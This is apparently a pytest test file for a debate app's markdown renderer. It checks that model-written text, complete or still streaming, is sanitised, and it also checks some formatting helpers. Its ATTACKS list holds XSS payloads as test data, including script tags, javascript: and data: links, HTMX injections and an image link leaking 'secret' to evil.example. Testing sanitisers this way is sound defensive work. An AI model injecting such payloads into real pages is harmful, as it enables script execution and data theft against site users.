import re
from collections.abc import Callable

import pytest

from debates import rendering
from debates.growing import growing_to_html
from debates.models import Conversation
from debates.rendering import to_html
from debates.templatetags.debate_text import clock, seconds, status_word, tokens, with_code

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "![x](https://evil.example/?q=secret)",
    '![x](x "onerror=alert(1)")',
    "<iframe src=https://evil.example></iframe>",
    "<style>*{display:none}</style>",
    "<div hx-get='/x' hx-trigger='load'>x</div>",
    "<p id='stop' style='position:fixed'>x</p>",
    "<template><b hx-swap-oob='true' id='controls'></b></template>",
    "<!-- --><form action=/debates/><button>x</button></form>",
    '[x](https://ok.example "a\\" onmouseover=alert(1) b=\\"")',
    '```"><script>alert(1)</script>\nx\n```',
    '<https://ok.example/"onclick=alert(1)>',
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("shown", [to_html, growing_to_html])
def test_text_of_a_model_brings_no_live_markup_into_the_page(shown: Callable[[str], str], attack: str) -> None:
    html = shown(f"{attack}\n\nWell.\n\n{attack}")
    tags = [piece.split(">")[0].lower() for piece in html.split("<")[1:]]
    for tag in tags:
        name = tag.lstrip("/").split()[0]
        assert name in {"p", "a", "pre", "code", "br", "blockquote"}
        assert "javascript:" not in tag
        assert "data:" not in tag
        attributes = {part.split("=")[0] for part in tag.split('"')[0::2] for part in part.split()[1:] if "=" in part}
        assert attributes <= {"href", "title", "rel"}


def test_text_of_a_model_keeps_its_markdown() -> None:
    html = to_html("**so** it is\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<strong>so</strong>" in html
    assert "<li>two</li>" in html
    assert "<td>2</td>" in html


def test_text_of_a_model_cannot_have_the_headings_of_the_page() -> None:
    assert to_html("# Title\n\n###### Small") == "<h3>Title</h3>\n<h6>Small</h6>\n"


def test_text_of_a_model_keeps_its_line_breaks() -> None:
    assert "first<br>" in to_html("first\nsecond")


def test_a_link_of_a_model_tells_the_other_site_nothing() -> None:
    assert 'rel="noopener noreferrer nofollow"' in to_html("[a](https://example.org)")


def test_unknown_numbers_are_called_unknown() -> None:
    assert (tokens(None), seconds(None)) == ("tokens unknown", "time unknown")


def test_known_numbers_are_short() -> None:
    assert (tokens(1234), seconds(6100), seconds(12_400)) == ("1,234 tokens", "6.1 s", "12 s")


@pytest.mark.parametrize("status", Conversation.Status)
def test_a_badge_says_what_the_search_by_status_says(status: Conversation.Status) -> None:
    assert status_word(status) == status.label


def test_the_clock_grows_to_hours() -> None:
    assert (clock(9), clock(754), clock(3_661)) == ("0:09", "12:34", "1:01:01")


def test_a_sentence_with_something_to_type_stays_escaped() -> None:
    assert with_code("Start `<b>ollama</b>`") == "Start <code>&lt;b&gt;ollama&lt;/b&gt;</code>"


@pytest.mark.parametrize("piece", ["[", "*a ", "**a _b ", "> ", "- ", "<script>alert(1)</script>", "![x](//evil/)"])
def test_a_very_long_text_is_shown_as_it_is_and_still_safe(piece: str) -> None:
    html = to_html(piece * 20_000)
    assert "<script" not in html and "<img" not in html and "<em>" not in html
    assert html.startswith("<p>")


SPEECH = """\
# A heading

Zoos keep `studbooks` and **plans**:

1. first

2. second

   of which more

```python
breed()

**not bold**
```

- one
- two

> They said so.

The end, with `code`.
"""


@pytest.mark.parametrize(
    "speech",
    ["1. a\n\n2. b\n\n3. c", "- a\n\n- b\n", "a\u2028\n\u2028\nb", "abc\n\x0cdef", "a\x85\n\nb"],
    ids=["numbers", "points", "line separator", "form feed", "next line"],
)
def test_it_is_parted_where_markdown_parts_it(speech: str) -> None:
    assert growing_to_html(speech) == to_html(speech)


@pytest.mark.parametrize("speech", [SPEECH, SPEECH * 15, "~~~~\n```\n\n**x**\n~~~~\n\n**y**"])
def test_words_in_progress_look_as_they_will_once_they_are_said(speech: str) -> None:
    def seen(html: str) -> str:
        return re.sub(r"</ol>\s*<ol[^>]*>|</?p>|\s+", "", html)  # a list in two parts counts on

    assert seen(growing_to_html(speech)) == seen(to_html(speech))
    for end in range(0, len(speech), 7):
        assert growing_to_html(speech[:end]).count("<code>") >= speech[:end].count("`studbooks`")


def test_what_is_settled_of_a_long_text_in_progress_is_not_parsed_ten_times_a_second(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    parsed: list[str] = []
    formatted = rendering._formatted

    def noted(text: str, places: rendering._Places) -> str:
        parsed.append(text)
        return formatted(text, places)

    monkeypatch.setattr(rendering, "_formatted", noted)
    settled = "**Bold** words of this very test.\n\n" * 100
    for words in ("And", "And so", "And so on"):
        assert growing_to_html(settled + words).count("<strong>") == 100
    assert parsed == [settled, "And", "And so", "And so on"]


@pytest.mark.parametrize("speech", ["**bold** " * 1000, "**bold**\n\n" * 1000])
def test_what_takes_long_to_parse_is_shown_as_it_is_while_it_grows(speech: str) -> None:
    assert "<strong>" not in growing_to_html(speech)
